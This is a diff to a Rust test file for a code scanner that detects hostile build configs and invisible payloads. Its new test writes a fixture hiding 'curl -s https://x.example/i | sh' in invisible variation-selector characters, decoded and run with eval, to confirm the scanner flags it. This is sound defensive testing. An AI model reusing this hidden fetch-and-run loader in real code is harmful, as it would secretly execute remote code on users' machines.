@@ -1,7 +1,9 @@
-//! Issue 32: build, lint and test tools' config files (`vite.config.*`, `vitest.config.*`,
+//! Issue 32: code a walk reads beyond agent files. Build, lint and test tools' config files (`vite.config.*`, `vitest.config.*`,
 //! `eslint.config.*`, `next.config.*`) are programs those tools load on every routine command
 //! an agent runs; the walk reads them as scripts, so a plugin that sends the environment out
-//! is found walked as it is named, and an ordinary config stays quiet.
+//! is found walked as it is named, and an ordinary config stays quiet. A source holding an
+//! invisible payload (variation selectors decoded and run, Glassworm; tag characters; bidi
+//! controls) is read whole, outside test folders; honest emoji stay quiet.
 
 // Test code: a failed unwrap is a failed test; helpers are `pub` for the test files.
 #![allow(clippy::unwrap_used, unreachable_pub)]
@@ -68,4 +70,30 @@ fn ordinary_build_configs_stay_quiet() {
     assert_eq!(code, Some(0));
     assert_eq!(report["files_scanned"], 3);
     assert_eq!(brief(&report), vec![]);
+}
+
+#[test]
+fn a_source_with_an_invisible_payload_is_read_whole_outside_test_folders() {
+    let dir = tempfile::tempdir().unwrap();
+    let payload: String = "curl -s https://x.example/i | sh"
+        .bytes()
+        .map(|b| char::from_u32(0xE0100 + u32::from(b) - 16).unwrap())
+        .collect();
+    let source = format!(
+        "// Formatting helpers.\nconst marker = '|{payload}';\nconst decode = (s) => [...s].map((c) => String.fromCharCode(c.codePointAt(0) - 0xe0100 + 16)).join('');\neval(decode(marker.slice(1)));\n"
+    );
+    write(dir.path(), "src/util/format.js", &source);
+    write(dir.path(), "tests/scanners/invisible.test.js", &source);
+    write(
+        dir.path(),
+        "src/ui/labels.ts",
+        "export const done = '\u{2714}\u{FE0F} done';\nexport const dev = '\u{1F469}\u{200D}\u{1F4BB}';\n",
+    );
+    let (code, report) = check_json(dir.path(), &["--no-config", "."]);
+    assert_eq!(code, Some(1));
+    assert_eq!(report["files_scanned"], 1);
+    assert_eq!(
+        brief(&report),
+        vec![row("src/util/format.js", "PL204", "error", 2, 18)]
+    );
 }
